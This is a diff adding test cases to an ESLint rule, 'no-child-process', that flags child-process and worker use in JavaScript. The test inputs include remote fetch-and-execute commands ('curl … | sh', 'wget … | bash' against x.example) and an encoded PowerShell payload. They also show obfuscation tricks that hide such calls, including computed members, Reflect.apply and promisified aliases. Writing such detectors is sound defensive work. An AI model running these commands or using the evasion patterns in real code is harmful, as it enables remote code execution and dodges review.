@@ -2,6 +2,7 @@ import rule from '../../rules/no-child-process.js';
 import { commonjs as cjs, ruleTester as tester } from './rule-tester.js';
 
 const cp = (line: number, column: number) => ({ messageId: 'childProcess', line, column });
+const run = (line: number, column: number) => ({ messageId: 'run', line, column });
 
 tester.run('no-child-process', rule, {
   valid: [
@@ -63,5 +64,24 @@ tester.run('no-child-process', rule, {
     { code: 'const W = require("web-" + "worker");', ...cjs, errors: [{ messageId: 'worker', line: 1, column: 11 }] },
     { code: 'const { Worker } = process.getBuiltinModule(`worker_${"threads"}`);', errors: [{ messageId: 'worker', line: 1, column: 20 }] },
     { code: 'const r = module.require;\nr.call(module, atob("cGlzY2luYQ=="));', ...cjs, errors: [{ messageId: 'worker', line: 2, column: 1, data: { module: 'piscina' } }] },
+    // The calls that run something the gate cannot vouch for are reported where they are made; a plain constant command is not.
+    { code: 'const { spawn } = require("child_process");\nspawn("ls", ["-lah"]);', ...cjs, errors: [cp(1, 19)] },
+    { code: 'const cp = require("child_process");\ncp.exec(command);', ...cjs, errors: [cp(1, 12), { ...run(2, 1), data: { callee: 'child_process.exec', command: 'a command built at run time', reason: 'what it runs is only known at run time' } }] },
+    { code: 'const { spawn } = require("child_process");\nspawn("node", ["svc.js", process.pid], { detached: true, stdio: "ignore" }).unref();', ...cjs, errors: [cp(1, 19), run(2, 1)] },
+    { code: 'const cp = require("child_process");\ncp.spawn("node", ["x.js"], { detached: true, stdio: "ignore" });', ...cjs, errors: [cp(1, 12), { ...run(2, 1), data: { callee: 'child_process.spawn', command: "'node x.js'", reason: 'it starts a detached process with its output thrown away' } }] },
+    { code: 'const cp = require("child_process");\ncp.execSync("curl -s https://x.example/p | sh");', ...cjs, errors: [cp(1, 12), { messageId: 'dangerousRun', line: 2, column: 1 }] },
+    // Disguised: a computed member, Reflect.apply, a promisified alias, a wrapper package.
+    { code: 'const cp = require("child_process");\ncp["ex" + "ec"]("wget http://x.example/a -O- | bash");', ...cjs, errors: [cp(1, 12), { messageId: 'dangerousRun', line: 2, column: 1 }] },
+    { code: 'const { execFile } = require("child_process");\nReflect.apply(execFile, null, ["python3", ["-c", code]]);', ...cjs, errors: [cp(1, 22), { ...run(2, 1), data: { callee: 'child_process.execFile', command: "'python3 -c …'", reason: 'its arguments are built at run time' } }] },
+    { code: 'const { promisify } = require("util");\nconst run = promisify(require("child_process").exec);\nrun(`powershell -enc ${payload}`);', ...cjs, errors: [cp(2, 23), run(3, 1)] },
+    { code: 'import { execa } from "execa";\nawait execa("python3", ["-c", "print(1)"]);', errors: [cp(1, 1), { ...run(2, 7), data: { callee: 'execa.execa', command: "'python3 -c print(1)'", reason: 'it hands an interpreter code written inline' } }] },
+    { code: 'import { execa } from "execa";\nawait execa("node", ["-e", "process.exit(0)"]);', errors: [cp(1, 1), { messageId: 'dangerousRun', line: 2, column: 7 }] },
+    // A browserify bundle's module function: its require parameter is the bundle's, falling back to Node's.
+    { code: '(function(){function r(e,n,t){function o(i,f){if(!n[i]){if(!e[i]){var c="function"==typeof require&&require;if(!f&&c)return c(i,!0);if(u)return u(i,!0);var a=new Error("Cannot find module \'"+i+"\'");throw a.code="MODULE_NOT_FOUND",a}var p=n[i]={exports:{}};e[i][0].call(p.exports,function(r){var n=e[i][1][r];return o(n||r)},p,p.exports,r,e,n,t)}return n[i].exports}for(var u="function"==typeof require&&require,i=0;i<t.length;i++)o(t[i]);return o}return r})()({1:[function(require,module,exports){\nrequire(2); require("child_process");\n},{}]},{},[1]);', ...cjs, errors: [cp(2, 13)] },
+    { code: 'import { run } from "node:test";\nrun({ files: ["./t.js"] });', errors: [{ ...run(2, 1), data: { callee: 'test.run', command: 'test files', reason: 'node:test runs each file it is given in a new Node process' } }] },
+    // Another module object's require, and specifiers a local helper is called with.
+    { code: 'module.parent.require("child_process");\nrequire.cache[key].require("cluster");', ...cjs, errors: [cp(1, 1), cp(2, 1)] },
+    { code: 'function load(name) { return require(name); }\nload("./a.js");\nload("child_process");', ...cjs, errors: [cp(1, 30)] },
+    { code: 'for (const m of ["fs", "child_process"]) require(m);', ...cjs, errors: [cp(1, 42)] },
   ],
 });
